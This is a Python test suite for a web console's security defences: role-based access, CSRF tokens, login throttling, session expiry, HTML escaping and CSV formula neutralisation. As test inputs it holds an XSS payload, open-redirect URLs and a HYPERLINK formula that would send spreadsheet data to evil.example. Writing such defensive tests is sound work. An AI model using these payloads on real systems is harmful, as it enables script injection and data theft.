"""The console keeps out those who don't belong: every route in its route table is tried
without a session, with every role (allowed or forbidden as the role table says), and every
state-changing route without its CSRF token; sign-in is throttled, sessions end when they
should, upstream HTML is shown as text, and personal data is shown only to customer service.

These run the real application in process (FastAPI's test client) on a real store and views.
"""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient

from orderlog.accounts import add_account, disable_account
from orderlog.console.app import create_app, route_table
from orderlog.console.guard import PUBLIC, STATE_CHANGING
from orderlog.console.roles import ALLOWED, Permission
from orderlog.console.routes.audit import VERIFYING
from orderlog.console.routes.queue import LAST_PAGE, QueueQuery
from orderlog.console.routes.signin import CHECKING
from orderlog.console.security import FREE_FAILURES, IDLE_SECONDS, Sessions
from orderlog.domain.account import Role
from orderlog.sources.signing import public_pem
from projections import PROJECTORS
from projections.service import project
from projections.sources import LogSource
from tests import builders as b
from tests.read_models import Scene

PASSWORD = "correct horse battery"
HOSTILE = "<script>window.pwned=1</script><img src=x onerror=alert(1)>"
ORDER = "SO-1"
EXCEPTION = f"PAYMENT_OVERPAID:{ORDER}"
OTHER_ORDER = "SO-2"
OTHER_EXCEPTION = f"PAYMENT_OVERPAID:{OTHER_ORDER}"

EXAMPLES: dict[str, dict[str, Any]] = {
    "/exceptions/item": {"params": {"id": EXCEPTION}},
    "/orders": {"params": {"id": ORDER}},
    "/orders/proof": {"params": {"id": ORDER}},
    "/holds": {"params": {"sku": "SKU-A"}},
    "/exceptions/{action}": {"path": "/exceptions/acknowledge", "data": {"exception_id": EXCEPTION, "note": "x"}},
    "/users/add": {"data": {"name": "newcomer", "role": "analyst", "password": PASSWORD}},
    "/users/disable": {"data": {"name": "nobody-at-all"}},
    "/sources/add": {"data": {"name": "shop", "types": ["OrderSubmitted"], "public_key": "not a key"}},
    "/sources/revoke": {"data": {"name": "nobody-at-all"}},
}
"""How to call each route that needs arguments (the others need none)."""


class World:
    def __init__(self, directory: Path):
        self.scene = Scene(directory)
        address = {**b.ADDRESS, "name": HOSTILE}
        for order in (ORDER, OTHER_ORDER):
            self.scene.publish(
                b.submitted(order, event_id=f"{order}-s", at="2026-03-01T10:00:00Z", address=address),
                b.paid(order, 1000, "P-1", event_id=f"{order}-p1", at="2026-03-01T10:05:00Z"),
                b.paid(order, 300, "P-2", event_id=f"{order}-p2", at="2026-03-01T10:09:00Z"),
            )
        self.project()
        self.app = self.scene.app
        for role in Role:
            add_account(self.app, role.value.replace("_", "-"), role.value, PASSWORD, "test")
        self.console = create_app(self.scene.config)

    def project(self) -> None:
        project(self.scene.views, list(PROJECTORS.values()), LogSource(self.scene.app.log_reader), follow=False)

    def client(self) -> TestClient:
        return TestClient(self.console, base_url="https://testserver", follow_redirects=False)

    def signed_in(self, client: TestClient, name: str, password: str = PASSWORD) -> Any:
        return client.post("/signin", data={"name": name, "password": password, "csrf": signin_token(client)})

    def records(self) -> int:
        return self.app.log_reader.count_after(0)


def signin_token(client: TestClient) -> str:
    return token_in(client.get("/signin").text)


def token_in(page: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', page)
    assert found, "no CSRF token on the page"
    return found.group(1)


def account_of(role: Role) -> str:
    return role.value.replace("_", "-")


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    world = World(tmp_path_factory.mktemp("console"))
    with world.client():  # the application's start-up and shutdown, once; other clients share them
        yield world
    world.scene.close()


@pytest.fixture(scope="module")
def clients(world: World) -> dict[Role, tuple[TestClient, str]]:
    """A signed-in client per role, with its session's CSRF token."""
    opened: dict[Role, tuple[TestClient, str]] = {}
    for role in Role:
        client = world.client()
        assert world.signed_in(client, account_of(role)).status_code == 303
        opened[role] = (client, token_in(client.get("/holds").text))
    return opened


def guarded_routes(world: World) -> list[tuple[APIRoute, str]]:
    return [
        (route, method)
        for route in route_table(world.console)
        for method in route.methods
        if route.openapi_extra["permission"] != PUBLIC
    ]


def call(client: TestClient, route: APIRoute, method: str, token: str | None = None) -> Any:
    example = EXAMPLES.get(route.path, {})
    path = example.get("path", route.path)
    if method == "GET":
        return client.get(path, params=example.get("params"), headers={"accept": "text/html"})
    data = dict(example.get("data", {}))
    if token is not None:
        data["csrf"] = token
    return client.request(method, path, data=data)


def test_every_route_says_who_may_use_it(world: World) -> None:
    routes = route_table(world.console)
    assert len(routes) >= 15
    for route in routes:
        permission = route.openapi_extra and route.openapi_extra.get("permission")
        assert permission == PUBLIC or permission in set(Permission), f"{route.path} declares no permission"
    public = sorted((route.path, *route.methods) for route in routes if route.openapi_extra["permission"] == PUBLIC)
    assert public == [("/signin", "GET"), ("/signin", "POST")]


def test_every_route_refuses_a_request_without_a_session(world: World) -> None:
    before = world.records()
    client = world.client()
    for route, method in guarded_routes(world):
        response = call(client, route, method, token="guess")
        if method == "GET":
            assert response.status_code == 303, route.path
            assert response.headers["location"].startswith("/signin?next="), route.path
        else:
            assert response.status_code == 401, route.path
    assert world.records() == before


@pytest.mark.parametrize("role", list(Role))
def test_each_role_may_use_exactly_the_routes_the_role_table_gives_it(
    world: World, clients: dict[Role, tuple[TestClient, str]], role: Role
) -> None:
    client, token = clients[role]
    for route, method in guarded_routes(world):
        if route.path == "/signout":
            continue  # would end the session the other checks use; tried below
        permission = Permission(route.openapi_extra["permission"])
        response = call(client, route, method, token)
        if role in ALLOWED[permission]:
            assert response.status_code not in (401, 403), f"{role} {method} {route.path}: {response.status_code}"
            assert "/signin" not in response.headers.get("location", ""), f"{role} {method} {route.path}"
        else:
            assert response.status_code == 403, f"{role} {method} {route.path}: {response.status_code}"


def test_every_state_changing_route_refuses_a_request_without_its_csrf_token(
    world: World, clients: dict[Role, tuple[TestClient, str]]
) -> None:
    client, own = clients[Role.ADMIN]
    _other, someone_elses = clients[Role.OPERATIONS]
    before = world.records()
    changing = [(route, method) for route, method in guarded_routes(world) if method in STATE_CHANGING]
    assert {route.path for route, _method in changing} >= {"/exceptions/{action}", "/users/add", "/signout"}
    for route, method in changing:
        for token in (None, "", "forged", someone_elses):
            response = call(client, route, method, token)
            assert response.status_code == 403, f"{method} {route.path} with token {token!r}"
    assert world.records() == before
    assert client.get("/holds").status_code == 200, "the session survived the refused sign-out"
    assert own != someone_elses


def test_the_sign_in_form_needs_the_token_of_its_own_cookie(world: World) -> None:
    client = world.client()
    client.get("/signin")
    response = client.post("/signin", data={"name": "admin", "password": PASSWORD, "csrf": "forged"})
    assert response.status_code == 403
    assert "orderlog_session" not in response.headers.get("set-cookie", "")


def test_the_session_cookie_is_secure_http_only_and_same_site_strict(world: World) -> None:
    client = world.client()
    response = world.signed_in(client, "admin")
    cookie = next(value for value in response.headers.get_list("set-cookie") if "orderlog_session=" in value)
    assert "Secure" in cookie
    assert "HttpOnly" in cookie
    assert "SameSite=strict" in cookie


def test_a_wrong_password_many_times_is_slowed_down_even_for_the_right_one_after(world: World) -> None:
    throttle = world.console.state.console.throttle
    now = [time.monotonic()]
    throttle.clock = lambda: now[0]
    client = world.client()
    for _attempt in range(FREE_FAILURES):
        assert world.signed_in(client, "analyst", "wrong password!").status_code == 401
    refused = world.signed_in(client, "analyst")
    assert refused.status_code == 429
    assert int(refused.headers["retry-after"]) >= 1
    now[0] += 1.5
    assert world.signed_in(client, "analyst", "wrong again....").status_code == 401
    assert world.signed_in(client, "analyst").status_code == 429, "the wait doubles after another failure"
    now[0] += 2.5
    assert world.signed_in(client, "analyst").status_code == 303
    throttle._failures.clear()
    throttle.clock = time.monotonic


def test_the_same_answer_for_an_unknown_name_a_wrong_password_and_a_disabled_account(world: World) -> None:
    add_account(world.app, "leaver", "operations", PASSWORD, "test")
    disable_account(world.app, "leaver", "left", "test")
    client = world.client()
    answers = {
        re.findall(r'class="error"[^>]*>([^<]*)', world.signed_in(client, name, password).text)[0]
        for name, password in (("no-such-person", PASSWORD), ("auditor", "wrong password!"), ("leaver", PASSWORD))
    }
    assert len(answers) == 1
    assert "Wrong name or password" in answers.pop()
    world.console.state.console.throttle._failures.clear()


def test_signing_out_ends_the_session_and_disabling_an_account_ends_its_sessions(world: World) -> None:
    add_account(world.app, "temp", "operations", PASSWORD, "test")
    client = world.client()
    world.signed_in(client, "temp")
    token = token_in(client.get("/holds").text)
    cookie = client.cookies.get("orderlog_session")
    assert client.post("/signout", data={"csrf": token}).status_code == 303
    client.cookies.set("orderlog_session", cookie)
    assert client.get("/holds").status_code == 303
    world.signed_in(client, "temp")
    assert client.get("/holds").status_code == 200
    disable_account(world.app, "temp", "test", "admin")
    assert client.get("/holds").status_code == 303


def test_an_idle_session_ends(world: World) -> None:
    sessions = world.console.state.console.sessions
    # The fake clock runs hours behind the real one, so the other tests' sessions, which the
    # shared store sweeps against it, never look idle (a fixed start would end them all on a
    # machine whose monotonic clock, its uptime, is behind that start plus an hour).
    now = [time.monotonic() - 3 * IDLE_SECONDS]
    sessions.clock = lambda: now[0]
    try:
        client = world.client()
        world.signed_in(client, "analyst")
        now[0] += IDLE_SECONDS - 1
        assert client.get("/holds").status_code == 200
        now[0] += IDLE_SECONDS + 1
        assert client.get("/holds").status_code == 303
    finally:
        sessions.clock = time.monotonic


def test_after_sign_in_the_browser_goes_only_to_a_page_of_the_console(world: World) -> None:
    client = world.client()
    for target, expected in (
        ("/orders?id=SO-1", "/orders?id=SO-1"),
        ("//evil.example/", "/"),
        ("https://evil.example/", "/"),
    ):
        response = client.post(
            "/signin", data={"name": "analyst", "password": PASSWORD, "csrf": signin_token(client), "next": target}
        )
        assert response.headers["location"] == expected


def test_html_from_upstream_and_from_people_is_shown_as_text(
    world: World, clients: dict[Role, tuple[TestClient, str]]
) -> None:
    client, token = clients[Role.CUSTOMER_SERVICE]
    page = client.get("/orders", params={"id": ORDER}).text
    assert "&lt;script&gt;window.pwned=1&lt;/script&gt;" in page
    assert "<script>window.pwned" not in page and "<img src=x" not in page
    client.post("/exceptions/acknowledge", data={"exception_id": OTHER_EXCEPTION, "note": HOSTILE, "csrf": token})
    page = client.get("/exceptions/item", params={"id": OTHER_EXCEPTION}).text
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "<img src=x" not in page


def test_every_page_carries_a_policy_that_runs_only_the_consoles_own_scripts(
    clients: dict[Role, tuple[TestClient, str]],
) -> None:
    client, _token = clients[Role.ANALYST]
    for path in ("/signin", "/exceptions", "/holds"):
        headers = client.get(path).headers
        assert "script-src 'self'" in headers["content-security-policy"]
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        assert headers["x-frame-options"] == "DENY"
        assert headers["cache-control"] == "no-store"


def test_personal_data_is_shown_to_customer_service_and_masked_for_everyone_else(
    world: World, clients: dict[Role, tuple[TestClient, str]]
) -> None:
    phone = b.ADDRESS["phone"]
    for role, (client, _token) in clients.items():
        page = client.get("/orders", params={"id": ORDER}).text
        if role is Role.CUSTOMER_SERVICE:
            assert phone in page
        else:
            assert phone not in page, role
            assert "[masked]" in page, role


def test_an_action_in_the_console_is_recorded_in_the_orders_history_as_the_signed_in_person(
    world: World, clients: dict[Role, tuple[TestClient, str]]
) -> None:
    client, token = clients[Role.OPERATIONS]
    response = client.post(
        "/exceptions/resolve", data={"exception_id": EXCEPTION, "note": "refunded by hand", "csrf": token}
    )
    assert response.status_code == 303
    resolved = [record for record in world.app.order_history(ORDER) if record.type == "ExceptionResolved"]
    assert [(record.actor, record.data["note"]) for record in resolved] == [("operations", "refunded by hand")]
    page = client.get("/exceptions/item", params={"id": EXCEPTION}).text
    assert "resolved" in page and "by operations" in page


def test_the_role_table_keeps_each_power_with_those_the_issue_gives_it() -> None:
    assert Role.ANALYST not in ALLOWED[Permission.ACT_ON_QUEUE], "an analyst cannot resolve an exception"
    assert ALLOWED[Permission.MANAGE_USERS] == {Role.ADMIN}
    assert ALLOWED[Permission.MANAGE_SOURCES] == {Role.ADMIN}
    assert ALLOWED[Permission.MANAGE_AUDIT] == {Role.AUDITOR, Role.ADMIN}
    assert ALLOWED[Permission.SEE_PERSONAL_DATA] == {Role.CUSTOMER_SERVICE}


def test_an_auditor_verifies_the_log_from_the_page_and_the_result_is_kept_with_its_time(
    world: World, clients: dict[Role, tuple[TestClient, str]]
) -> None:
    client, token = clients[Role.AUDITOR]
    assert client.post("/audit/verify", data={"csrf": token}).status_code == 303
    page = client.get("/audit").text
    kept = world.app.last_verification()
    assert kept is not None and kept["ok"] is True
    assert kept["headline"].startswith("verified ") and kept["headline"] in page
    assert kept["at"] in page
    assert client.post("/audit/checkpoint", data={"csrf": token}).status_code == 303
    assert "No signing key" in client.get("/audit").text, "without ORDERLOG_SIGNING_KEY no checkpoint is issued"
    assert world.app.checkpoints() == []


def test_as_of_the_last_day_a_calendar_holds_leaves_the_window_open(
    clients: dict[Role, tuple[TestClient, str]],
) -> None:
    client, _token = clients[Role.ANALYST]
    whole = client.get("/analytics")
    assert whole.status_code == 200 and "Submitted" in whole.text
    last_day = client.get("/analytics", params={"as_of": "9999-12-31"})
    assert last_day.status_code == 200
    assert last_day.text.replace('value="9999-12-31"', 'value=""').replace("9999-12-31", "") == whole.text


def test_analytics_errors_name_what_was_given_escaped_and_cut(clients: dict[Role, tuple[TestClient, str]]) -> None:
    client, _token = clients[Role.ANALYST]
    for params, words in (
        ({"as_of": "\x1b9999-12-31"}, "as of '\\x1b9999-12-31': not a day"),
        ({"as_of": "2026-W09-1"}, "as of '2026-W09-1': not a day"),
        ({"as_of": "1969-12-31"}, "as of '1969-12-31': before 1970"),
        ({"since": "9" * 3000}, "characters)"),
        ({"as_of": "2026-03-01", "since": "2026-03-02T00:00:00Z"}, "(the end of the day as of 2026-03-01)"),
    ):
        answer = client.get("/analytics.csv", params=params)
        assert answer.status_code == 400, params
        assert words in answer.text and len(answer.text) < 300, (params, answer.text)
        assert "\x1b" not in answer.text


def test_a_method_a_page_does_not_take_is_405_naming_the_ones_it_does(
    clients: dict[Role, tuple[TestClient, str]],
) -> None:
    client, token = clients[Role.ADMIN]
    for method, path, allowed in (
        ("HEAD", "/exceptions", "GET"),
        ("DELETE", "/users", "GET"),
        ("GET", "/signout", "POST"),
        ("PUT", "/signin", "GET, POST"),
    ):
        answer = client.request(method, path, headers={"X-CSRF-Token": token})
        assert answer.status_code == 405, (method, path)
        assert answer.headers.get("allow") == allowed, (method, path, answer.headers)


def test_characters_nobody_can_see_are_shown_on_pages_and_in_downloads() -> None:
    """Records stored before the contract refused them may hold ids that pass for others."""
    from markupsafe import Markup

    from orderlog.console.app import _templates
    from orderlog.presentation import as_csv_text

    page = _templates().env.from_string("{{ order }}|{{ note }}|{{ fields | data }}|{{ ours }}")
    shown = page.render(order="SO-1\u200b", note="a\u202eb\nc", fields={"sku": "K\u2066"}, ours=Markup("<b>x</b>"))
    assert shown == "SO-1\\u200b|a\\u202eb\nc|{&#34;sku&#34;: &#34;K\\u2066&#34;}|<b>x</b>"
    written = as_csv_text([{"order_id": "SO-1\ufeff", "channel": "=1\u200b"}])
    assert written == "order_id,channel\nSO-1\\ufeff,'=1\\u200b\n"


def test_a_spreadsheet_formula_from_upstream_is_written_to_csv_as_text() -> None:
    from orderlog.presentation import as_csv_text

    rows = [{"channel": '=HYPERLINK("http://evil.example/?"&A1,"click")', "cancelled": 1, "rate": -0.5}]
    for start in "=+-@":
        rows.append({"channel": f"{start}1+1", "cancelled": 2, "rate": 0.25})
    lines = as_csv_text(rows).splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(")
    assert [line.split(",")[0] for line in lines[2:]] == ["'=1+1", "'+1+1", "'-1+1", "'@1+1"]
    assert lines[1].endswith(",1,-0.5"), "numbers stay numbers"


def test_an_overlong_note_is_refused_on_a_page_that_says_which_field(
    clients: dict[Role, tuple[TestClient, str]],
) -> None:
    client, token = clients[Role.OPERATIONS]
    response = client.post(
        "/exceptions/acknowledge", data={"exception_id": OTHER_EXCEPTION, "note": "x" * 2001, "csrf": token}
    )
    assert response.status_code == 400
    assert "note" in response.text and "2000" in response.text
    assert "x" * 100 not in response.text


def test_an_admin_registers_and_revokes_a_source_and_both_are_recorded_with_who_did_it(
    world: World, clients: dict[Role, tuple[TestClient, str]]
) -> None:
    client, token = clients[Role.ADMIN]
    key = public_pem(Ed25519PrivateKey.generate()).decode()
    other = public_pem(Ed25519PrivateKey.generate()).decode()
    name = "<b>marketplace</b>"

    def register(public_key: str, source: str = name) -> str:
        form = {"csrf": token, "name": source, "types": ["OrderSubmitted", "PaymentCaptured"], "public_key": public_key}
        assert client.post("/sources/add", data=form).status_code == 303
        return client.get("/sources").text

    page = register(key.replace("\n", "\r\n"))  # as a browser's textarea sends it
    (source,) = [found for found in world.app.sources() if found.name == name]
    assert source.active_key is not None and source.active_key.registered_by == "admin"
    assert list(source.active_key.types) == ["OrderSubmitted", "PaymentCaptured"]
    assert f"key {source.active_key.key_id}" in page and "&lt;b&gt;marketplace&lt;/b&gt;" in page
    assert "<b>marketplace</b>" not in page
    assert "revoke it first to rotate its key" in register(other)
    assert "not an Ed25519 public key in PEM form" in register("-----BEGIN PUBLIC KEY-----\nAAAA\n")
    assert "source name &#39;shop\\u200b&#39;: give 1-128 characters" in register(key, source="shop\u200b")
    assert (
        "unknown event type(s) (none given)"
        in client.post(
            "/sources/add", data={"csrf": token, "name": "erp", "public_key": key}, follow_redirects=True
        ).text
    )

    form = {"csrf": token, "name": name, "reason": "key leaked"}
    assert client.post("/sources/revoke", data=form).status_code == 303
    (source,) = [found for found in world.app.sources() if found.name == name]
    (revoked,) = source.keys
    assert (source.active_key, revoked.revoked_by) == (None, "admin")
    assert "has no active key to revoke" in client.post("/sources/revoke", data=form, follow_redirects=True).text


def test_wrong_passwords_sent_all_at_once_are_checked_no_more_than_the_free_ones(world: World) -> None:
    throttle = world.console.state.console.throttle
    throttle._failures.clear()

    def attempt(_n: int) -> int:
        return int(world.signed_in(world.client(), "auditor", "wrong password!").status_code)

    with ThreadPoolExecutor(12) as pool:
        answers = sorted(pool.map(attempt, range(12)))
    assert answers.count(401) == FREE_FAILURES and answers.count(429) == 12 - FREE_FAILURES, answers
    throttle._failures.clear()


@pytest.mark.parametrize("token", ["é", "ü" * 40, "\u202e"])
def test_a_csrf_token_of_any_text_is_refused_not_an_error(
    world: World, clients: dict[Role, tuple[TestClient, str]], token: str
) -> None:
    client = world.client()
    client.get("/signin")
    assert client.post("/signin", data={"name": "admin", "password": PASSWORD, "csrf": token}).status_code == 403
    admin, _own = clients[Role.ADMIN]
    assert admin.post("/users/disable", data={"name": "nobody", "csrf": token}).status_code == 403


def test_people_resolving_one_exception_at_once_record_one_resolution(
    world: World, clients: dict[Role, tuple[TestClient, str]]
) -> None:
    acting = [Role.OPERATIONS, Role.CUSTOMER_SERVICE, Role.ADMIN]

    def resolve(role: Role) -> str:
        client, token = clients[role]
        form = {"csrf": token, "exception_id": OTHER_EXCEPTION, "note": f"refunded by {role}"}
        assert client.post("/exceptions/resolve", data=form).status_code == 303
        return client.get("/exceptions/item", params={"id": OTHER_EXCEPTION}).text

    with ThreadPoolExecutor(len(acting)) as pool:
        pages = list(pool.map(resolve, acting))
    resolved = [record for record in world.app.order_history(OTHER_ORDER) if record.type == "ExceptionResolved"]
    assert len(resolved) == 1
    refused = [page for page in pages if f"{OTHER_EXCEPTION} was already resolved" in page]
    assert len(refused) == len(acting) - 1


def test_a_deep_page_of_the_queue_is_its_last_page(world: World, clients: dict[Role, tuple[TestClient, str]]) -> None:
    client, _token = clients[Role.ANALYST]
    assert QueueQuery(page="99999999999").page_number() == LAST_PAGE
    assert QueueQuery(page=str(LAST_PAGE - 1)).page_number() == LAST_PAGE - 1
    assert client.get("/exceptions", params={"status": "all", "page": "99999999999"}).status_code == 200


def test_analytics_says_400_for_a_window_it_cannot_read_and_an_empty_csv_keeps_its_header(
    clients: dict[Role, tuple[TestClient, str]],
) -> None:
    client, _token = clients[Role.ANALYST]
    for params in (
        {"since": "x"},
        {"as_of": "2026-13-01"},
        {"since": "2026-03-02T00:00:00Z", "until": "2026-03-01T00:00:00Z"},
    ):
        assert client.get("/analytics", params=params).status_code == 400, params
        assert client.get("/analytics.csv", params=params).status_code == 400, params
    for day in ("2026-13-01", "20260301", "yesterday", "2026-03-01T00:00:00Z"):
        said = client.get("/analytics", params={"as_of": day})
        assert said.status_code == 400, day
        assert f"as of &#39;{day}&#39;: not a day; write it as YYYY-MM-DD" in said.text, day
    empty = client.get("/analytics.csv", params={"since": "2030-01-01T00:00:00Z", "until": "2030-01-02T00:00:00Z"})
    assert empty.status_code == 200
    assert empty.text == "reason,cancelled,share,submitted,rate\n"


def test_an_admin_cannot_disable_their_own_account(world: World, clients: dict[Role, tuple[TestClient, str]]) -> None:
    client, token = clients[Role.ADMIN]
    answer = client.post("/users/disable", data={"name": "admin", "csrf": token}, follow_redirects=True)
    assert "admin cannot disable their own account" in answer.text
    assert client.get("/users").status_code == 200, "still signed in"


def test_while_two_passwords_are_being_checked_a_third_sign_in_is_asked_to_come_back(world: World) -> None:
    """Each argon2id check takes 64 MiB: a flood from many addresses waits, then is turned away."""
    assert CHECKING.acquire(timeout=1) and CHECKING.acquire(timeout=1)
    try:
        refused = world.signed_in(world.client(), "auditor")
    finally:
        CHECKING.release()
        CHECKING.release()
    assert refused.status_code == 429
    assert "Too many people are signing in at once" in refused.text
    assert world.signed_in(world.client(), "auditor").status_code == 303
    world.console.state.console.throttle._failures.clear()


def test_a_second_verification_while_one_runs_is_told_so_and_does_not_run(
    world: World, clients: dict[Role, tuple[TestClient, str]]
) -> None:
    client, token = clients[Role.AUDITOR]
    before = world.app.last_verification()
    assert VERIFYING.acquire(blocking=False)
    try:
        answer = client.post("/audit/verify", data={"csrf": token}, follow_redirects=True)
    finally:
        VERIFYING.release()
    assert "A verification is already running" in answer.text
    assert world.app.last_verification() == before


def test_sessions_that_ran_out_are_forgotten_when_a_new_one_starts() -> None:
    now = [1000.0]
    sessions = Sessions(clock=lambda: now[0])
    old = sessions.start("ada", Role.OPERATIONS)
    now[0] += IDLE_SECONDS + 1
    fresh = sessions.start("olga", Role.ANALYST)
    assert set(sessions._by_token) == {fresh.token}
    assert sessions.find(old.token) is None


@pytest.mark.parametrize("number", ["-1", "0", "²", "①", "1.5", " "])
def test_a_version_or_page_that_is_not_a_whole_number_is_named_never_a_python_message(
    clients: dict[Role, tuple[TestClient, str]], number: str
) -> None:
    """`str.isdigit` says yes to `²`, which `int()` then refuses with words of its own."""
    client, _token = clients[Role.ANALYST]
    answer = client.get("/orders", params={"id": ORDER, "version": number})
    if number.strip():
        assert answer.status_code == 400
        assert "give a whole number from 1" in answer.text and "int()" not in answer.text
    assert client.get("/exceptions", params={"status": "all", "page": number}).status_code == 200
